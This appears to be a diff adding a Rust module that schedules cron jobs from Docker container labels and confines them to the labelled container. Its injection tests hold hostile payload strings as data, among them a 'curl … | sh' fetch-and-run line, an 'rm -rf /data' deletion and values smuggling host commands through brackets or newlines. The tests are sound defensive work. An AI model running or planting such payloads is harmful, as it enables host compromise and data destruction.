@@ -0,0 +1,353 @@
+//! Find jobs in the labels of containers, so that services can schedule
+//! themselves without docker-cron being reconfigured or restarted.
+//!
+//! A container with a `docker-cron.schedule` label is scheduled as if it had
+//! a crontab entry of its own. Without a `docker-cron.command` label the
+//! container itself is started on that schedule, and with one the command is
+//! run in it instead. A `docker-cron.options` label adds options as they would
+//! be written between brackets in a crontab, e.g. `timeout=10m,retries=2`:
+//!
+//! ```text
+//! docker run -d --label docker-cron.schedule="0 3 * * *" \
+//!     --label docker-cron.command="vacuumdb --all" postgres
+//! ```
+
+use std::{
+    collections::{BTreeMap, HashMap},
+    str::FromStr,
+    time::Duration,
+};
+
+use bollard::{query_parameters::ListContainersOptionsBuilder, Docker};
+use thiserror::Error;
+use tokio::time::sleep;
+use tracing::warn;
+
+use crate::{
+    crontab::{from_five_field, CronJob, InvalidOptionError, JobOptions},
+    job::{Action, Job},
+    trigger::{TriggerSpec, TriggerSpecError},
+};
+
+/// The label that marks a container as scheduled, with its schedule as
+/// written in a crontab.
+pub const SCHEDULE_LABEL: &str = "docker-cron.schedule";
+
+/// The label with a command to run in the container, rather than starting it.
+pub const COMMAND_LABEL: &str = "docker-cron.command";
+
+/// The label with the job's options, as written between brackets in a
+/// crontab.
+pub const OPTIONS_LABEL: &str = "docker-cron.options";
+
+/// Set on the containers that docker-cron creates for runs, which may have
+/// copied the labels of the container they were created from.
+const RUN_ID_LABEL: &str = "docker-cron.run-id";
+
+/// Why a container's labels don't make a job.
+#[derive(Debug, Error)]
+pub enum LabelError {
+    #[error("Invalid {SCHEDULE_LABEL} label")]
+    Schedule(#[source] TriggerSpecError),
+    #[error("Invalid {OPTIONS_LABEL} label")]
+    Options(#[source] InvalidOptionError),
+    /// Labels are inherited from images, so they may only ever start their
+    /// own container or run a command in it, never anything on the host.
+    #[error("Labels can only start their own container or run a command in it")]
+    Action,
+}
+
+/// The labels that schedule a container, trimmed and with empty ones left
+/// out.
+#[derive(Clone, Debug, PartialEq, Eq)]
+struct JobLabels {
+    schedule: String,
+    command: Option<String>,
+    options: Option<String>,
+}
+
+impl JobLabels {
+    /// The scheduling labels among `labels`, or `None` if they don't schedule
+    /// the container. The containers of runs are never scheduled themselves.
+    fn find(labels: &HashMap<String, String>) -> Option<Self> {
+        if labels.contains_key(RUN_ID_LABEL) {
+            return None;
+        }
+
+        let label = |key| {
+            labels
+                .get(key)
+                .map(|value: &String| value.trim().to_string())
+                .filter(|value| !value.is_empty())
+        };
+
+        Some(JobLabels {
+            schedule: label(SCHEDULE_LABEL)?,
+            command: label(COMMAND_LABEL),
+            options: label(OPTIONS_LABEL),
+        })
+    }
+
+    /// The job these labels give `container`. Each label is parsed as the
+    /// one thing it holds, rather than pasted into a crontab line, so none
+    /// can spill into another part of the entry.
+    fn job(&self, container: &str) -> Result<CronJob, LabelError> {
+        let spec =
+            if !self.schedule.starts_with('@') && self.schedule.split_whitespace().count() == 5 {
+                from_five_field(&self.schedule)
+            } else {
+                self.schedule.clone()
+            };
+        let schedule = TriggerSpec::from_str(&spec).map_err(LabelError::Schedule)?;
+        let options = self
+            .options
+            .as_deref()
+            .map(JobOptions::from_str)
+            .transpose()
+            .map_err(LabelError::Options)?
+            .unwrap_or_default();
+        let command = match &self.command {
+            Some(command) => format!("exec:{container} {command}"),
+            None => container.to_string(),
+        };
+
+        let job = CronJob {
+            schedule,
+            command,
+            timezone: None,
+            options,
+            env: BTreeMap::new(),
+            disabled: false,
+            host: None,
+        };
+
+        match Job::from(job.clone()).action {
+            Action::Start(name) if name == container => Ok(job),
+            Action::Exec(exec) if exec.container == container => Ok(job),
+            _ => Err(LabelError::Action),
+        }
+    }
+}
+
+/// The jobs found in the labels of a Docker host's containers, kept up to
+/// date by listing them again every so often.
+pub struct Discovery {
+    docker: Docker,
+    interval: Duration,
+    /// Each scheduled container's labels, by container name.
+    labels: BTreeMap<String, JobLabels>,
+    jobs: Vec<CronJob>,
+}
+
+impl Discovery {
+    /// Find jobs among `docker`'s containers, looking for changes every
+    /// `interval`. Nothing is found until the first [`scan`](Self::scan).
+    pub fn new(docker: Docker, interval: Duration) -> Self {
+        Discovery {
+            docker,
+            interval,
+            labels: BTreeMap::new(),
+            jobs: Vec::new(),
+        }
+    }
+
+    /// The jobs found by the last scan that changed anything. Containers
+    /// whose labels don't make a valid job are left out, with a warning.
+    pub fn jobs(&self) -> &[CronJob] {
+        &self.jobs
+    }
+
+    /// List the containers again, returning whether their jobs changed.
+    pub async fn scan(&mut self) -> Result<bool, bollard::errors::Error> {
+        let filters = HashMap::from([("label", vec![SCHEDULE_LABEL.to_string()])]);
+        let options = ListContainersOptionsBuilder::new()
+            .all(true)
+            .filters(&filters)
+            .build();
+        let containers = self.docker.list_containers(Some(options)).await?;
+
+        let labels: BTreeMap<String, JobLabels> = containers
+            .into_iter()
+            .filter_map(|container| {
+                let name = container.names?.into_iter().next()?;
+                let name = name.trim_start_matches('/');
+                let labels = JobLabels::find(&container.labels.unwrap_or_default())?;
+
+                Some((name.to_string(), labels))
+            })
+            .collect();
+
+        if labels == self.labels {
+            return Ok(false);
+        }
+
+        self.jobs = labels
+            .iter()
+            .filter_map(|(container, labels)| match labels.job(container) {
+                Ok(job) => Some(job),
+                Err(error) => {
+                    warn!(container, error = %error, "Ignoring container's invalid job labels");
+                    None
+                }
+            })
+            .collect();
+        self.labels = labels;
+
+        Ok(true)
+    }
+
+    /// Wait until a scan finds that the jobs have changed. Failures to list
+    /// the containers are logged, and the jobs found before are kept.
+    pub async fn changed(&mut self) {
+        loop {
+            sleep(self.interval).await;
+
+            match self.scan().await {
+                Ok(true) => return,
+                Ok(false) => {}
+                Err(error) => {
+                    warn!(error = %error, "Failed to list containers, keeping discovered jobs")
+                }
+            }
+        }
+    }
+}
+
+/// The job that `labels` give `container`, or `None` if they don't schedule
+/// it.
+pub fn discovered_job(
+    container: &str,
+    labels: &HashMap<String, String>,
+) -> Option<Result<CronJob, LabelError>> {
+    JobLabels::find(labels).map(|labels| labels.job(container))
+}
+
+#[cfg(test)]
+mod tests {
+    use std::time::Duration;
+
+    use crate::job::{Action, Job};
+
+    use super::*;
+
+    fn labels(pairs: &[(&str, &str)]) -> HashMap<String, String> {
+        pairs
+            .iter()
+            .map(|&(key, value)| (key.to_string(), value.to_string()))
+            .collect()
+    }
+
+    #[test]
+    fn test_discovered_job() -> Result<(), anyhow::Error> {
+        let job = discovered_job("cleanup", &labels(&[(SCHEDULE_LABEL, "@hourly")])).unwrap()?;
+        assert_eq!(job.to_string(), "@hourly cleanup");
+
+        let job = discovered_job(
+            "db",
+            &labels(&[
+                (SCHEDULE_LABEL, "0 3 * * *"),
+                (COMMAND_LABEL, "vacuumdb --all"),
+                (OPTIONS_LABEL, "name=vacuum, timeout=1h"),
+            ]),
+        )
+        .unwrap()?;
+        assert_eq!(job.command, "exec:db vacuumdb --all");
+
+        let job = Job::from(job);
+        assert_eq!(job.name, "vacuum");
+        assert_eq!(job.timeout, Some(Duration::from_secs(3600)));
+        assert!(matches!(&job.action, Action::Exec(exec) if exec.container == "db"));
+
+        // Unscheduled containers and copies made for runs are left alone.
+        for pairs in [
+            &[(COMMAND_LABEL, "true")][..],
+            &[(SCHEDULE_LABEL, " ")],
+            &[(SCHEDULE_LABEL, "@daily"), (RUN_ID_LABEL, "abc")],
+        ] {
+            assert!(discovered_job("web", &labels(pairs)).is_none());
+        }
+
+        Ok(())
+    }
+
+    #[test]
+    fn test_schedule_label_injection() {
+        // Anything after the schedule used to become the command.
+        for schedule in [
+            "@reboot local:curl example.com | sh",
+            "@daily run:alpine rm -rf /data",
+            "0 3 * * * @host:prod web",
+            "0 3 * * * prune:images",
+            "0 0 3 * * * stop:db",
+            "@hourly [name=x] local:id",
+        ] {
+            let result = discovered_job("web", &labels(&[(SCHEDULE_LABEL, schedule)])).unwrap();
+            assert!(
+                matches!(result, Err(LabelError::Schedule(_))),
+                "{schedule:?} gave {result:?}"
+            );
+        }
+    }
+
+    #[test]
+    fn test_options_label_injection() -> Result<(), anyhow::Error> {
+        // A bracket used to end the options and start the command.
+        let result = discovered_job(
+            "web",
+            &labels(&[(SCHEDULE_LABEL, "@hourly"), (OPTIONS_LABEL, "] local:id")]),
+        )
+        .unwrap();
+        assert!(matches!(result, Err(LabelError::Options(_))));
+
+        let job = discovered_job(
+            "web",
+            &labels(&[
+                (SCHEDULE_LABEL, "@hourly"),
+                (OPTIONS_LABEL, "name=x] local:id"),
+            ]),
+        )
+        .unwrap()?;
+        assert_eq!(job.command, "web");
+        assert!(job.host.is_none());
+        assert!(matches!(Job::from(job).action, Action::Start(name) if name == "web"));
+
+        Ok(())
+    }
+
+    #[test]
+    fn test_command_label_injection() -> Result<(), anyhow::Error> {
+        // The command only ever runs inside the labelled container.
+        let job = discovered_job(
+            "web",
+            &labels(&[
+                (SCHEDULE_LABEL, "@hourly"),
+                (COMMAND_LABEL, "x\n@hourly local:id"),
+            ]),
+        )
+        .unwrap()?;
+        assert!(matches!(Job::from(job).action, Action::Exec(exec) if exec.container == "web"));
+
+        let job = discovered_job(
+            "web",
+            &labels(&[(SCHEDULE_LABEL, "@hourly"), (COMMAND_LABEL, "local:id")]),
+        )
+        .unwrap()?;
+        assert!(matches!(Job::from(job).action, Action::Exec(exec) if exec.container == "web"));
+
+        Ok(())
+    }
+
+    #[test]
+    fn test_container_name_injection() {
+        // Docker doesn't allow these names, but nothing but the container
+        // itself may be started even if it did.
+        for container in ["local:id", "run:alpine", "prune:images", "stop:db"] {
+            let result =
+                discovered_job(container, &labels(&[(SCHEDULE_LABEL, "@hourly")])).unwrap();
+            assert!(
+                matches!(result, Err(LabelError::Action)),
+                "{container:?} gave {result:?}"
+            );
+        }
+    }
+}